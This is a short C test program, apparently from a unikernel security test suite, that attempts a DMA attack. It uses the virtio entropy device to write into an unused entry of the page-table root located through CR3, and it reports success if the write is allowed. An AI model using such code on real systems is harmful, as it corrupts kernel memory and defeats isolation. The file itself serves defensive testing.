/* SPDX-License-Identifier: BSD-2-Clause */
/* attack: VIRTIO_DMA_PAGETABLE */
/* adversary: A1 */
/* platforms: kvm */
/* unit: virtio_rng */
/* The entropy device writes into the root of the page tables, mapped or not: an entry that is not in use. */
#include "attack.h"
#include <uk/virtio.h>
#include <uk/virtio_rng.h>

#define CR3_ADDRESS 0x000ffffffffff000u
/* Memory is mapped at its physical address plus a multiple of 2 MiB, and begins below the first. */
#define LARGE_SHIFT 21
#define UNUSED_ENTRY 300

int main(void)
{
	const struct uk_ram *ram;
	uint64_t *mine = uk_virtio_memory(sizeof(*mine));
	uint64_t root, ram_base;

	if (uk_virtio_rng_reseed() || uk_plat_ram(&ram) == 0 ||
	    uk_virtio_read(mine, sizeof(*mine)) != sizeof(*mine))
		return 1;
	attack_control_ok();
	__asm__ volatile("movq %%cr3, %0" : "=r"(root)); /* C cannot read it */
	ram_base = ram[0].base >> LARGE_SHIFT << LARGE_SHIFT;
	root = (root & CR3_ADDRESS) + ram_base;
	if (uk_virtio_read(attack_launder((const uint64_t *)root + UNUSED_ENTRY), sizeof(*mine)) ==
	    sizeof(*mine))
		attack_succeeded();
	return 0;
}
